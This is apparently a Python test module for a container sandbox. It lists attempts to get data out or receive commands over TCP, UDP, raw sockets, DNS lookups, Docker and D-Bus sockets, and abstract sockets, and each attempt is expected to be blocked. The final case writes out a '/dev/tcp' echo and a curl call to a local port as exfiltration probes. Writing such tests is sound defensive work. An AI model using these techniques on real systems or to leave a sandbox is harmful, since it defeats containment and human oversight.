"""Network: getting a secret out of the container, or orders into it."""

from attacks.record import Attack, in_second, while_loaded

CALLS = ("calls",)

GROUP = (
    Attack(
        "connects_by_tcp",
        "to reach a listener on this machine or beyond it",
        in_second("""
            import socket, urllib.request
            attempt("socket", lambda: socket.create_connection(("127.0.0.1", TCP_PORT), 1))
            attempt("version 6", lambda: socket.socket(socket.AF_INET6, socket.SOCK_STREAM))
            attempt("web", lambda: urllib.request.urlopen(f"http://127.0.0.1:{TCP_PORT}/", timeout=1))
            attempt("by number", lambda: system_call(41, socket.AF_INET, socket.SOCK_STREAM, 0))
        """),
        evidence="CLOSED socket: PermissionError.*CLOSED web: .*CLOSED by number: ",
        protected_by=CALLS,
    ),
    Attack(
        "sends_by_udp",
        "to send a packet that needs no connection",
        in_second("""
            import socket
            def send():
                socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"found it", ("127.0.0.1", UDP_PORT))
            attempt("packet", send)
            attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
            attempt("frames", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
        """),
        evidence="CLOSED packet: PermissionError.*CLOSED raw: PermissionError.*CLOSED frames: PermissionError",
        protected_by=CALLS,
    ),
    Attack(
        "asks_for_names",
        "to tell a name server of its own what it found, in the names it asks for",
        in_second("""
            import socket
            attempt("name", socket.getaddrinfo, "found-it.example.org", 80)
            attempt("address", socket.gethostbyaddr, "127.0.0.1")
            attempt("resolver", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 17))
        """),
        evidence="CLOSED name: gaierror.*CLOSED resolver: PermissionError",
        protected_by=CALLS,
    ),
    Attack(
        "connects_to_a_local_socket",
        "to talk to a service of this machine: Docker, the system bus, a display, another user's agent",
        in_second("""
            import socket
            for path in ("/var/run/docker.sock", "/run/dbus/system_bus_socket", "/tmp/.X11-unix/X0", PLACE + "/socket"):
                attempt(path, lambda: socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).connect(path))
        """),
        evidence="CLOSED /var/run/docker.sock: PermissionError.*CLOSED .*/socket: PermissionError",
        protected_by=CALLS,
    ),
    Attack(
        "connects_to_an_abstract_socket",
        "to talk to a socket that stands in no folder, and so has no rights",
        in_second("""
            import socket
            attempt("abstract", lambda: socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).connect("\\0" + ABSTRACT))
            near, far = socket.socketpair()
            attempt("a pair's end", lambda: near.connect("\\0" + ABSTRACT))
            def send():
                datagrams, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
                datagrams.sendto(b"found it", "\\0" + ABSTRACT)
            attempt("a packet from a pair", send)
        """),
        evidence="CLOSED abstract: PermissionError.*CLOSED a pair's end: .*CLOSED a packet from a pair: ",
        protected_by=CALLS,
    ),
    Attack(
        "waits_for_orders",
        "to listen for somebody who tells it what to do",
        in_second("""
            import socket
            attempt("listen", lambda: socket.create_server(("0.0.0.0", 0)))
            near, far = socket.socketpair()
            attempt("bind", lambda: near.bind("\\0" + MARK))
            attempt("listen on a pair", lambda: near.listen())
            attempt("accept", lambda: near.accept())
        """),
        evidence="CLOSED listen: PermissionError.*CLOSED bind: .*CLOSED listen on a pair: .*CLOSED accept: ",
        protected_by=CALLS,
    ),
    Attack(
        "uses_other_families",
        "to use the kernel's other kinds of sockets: routing, encryption, virtual machines, Bluetooth",
        in_second("""
            import socket
            for name in ("AF_NETLINK", "AF_ALG", "AF_VSOCK", "AF_BLUETOOTH", "AF_CAN", "AF_TIPC", "AF_QIPCRTR"):
                attempt(name, lambda: socket.socket(getattr(socket, name), socket.SOCK_DGRAM))
        """),
        evidence="CLOSED AF_NETLINK: PermissionError.*CLOSED AF_ALG: .*CLOSED AF_QIPCRTR: ",
        protected_by=CALLS,
    ),
    Attack(
        "connects_while_loaded",
        "to use the network before the first check, when less might be forbidden",
        while_loaded("""
            import socket
            attempt("socket", lambda: socket.create_connection(("127.0.0.1", TCP_PORT), 1))
            attempt("abstract", lambda: socket.socket(socket.AF_UNIX).connect("\\0" + ABSTRACT))
            def start(text):
                if os.system(text):
                    raise OSError("it did not start")
            attempt("program", start, f"echo found it > /dev/tcp/127.0.0.1/{TCP_PORT}")
            attempt("program started", lambda: __import__("subprocess").run(["curl", f"http://127.0.0.1:{TCP_PORT}"]))
        """)
        + in_second("pass"),
        evidence="CLOSED socket: PermissionError.*CLOSED abstract: .*CLOSED program: .*CLOSED program started: ",
        protected_by=CALLS,
    ),
)
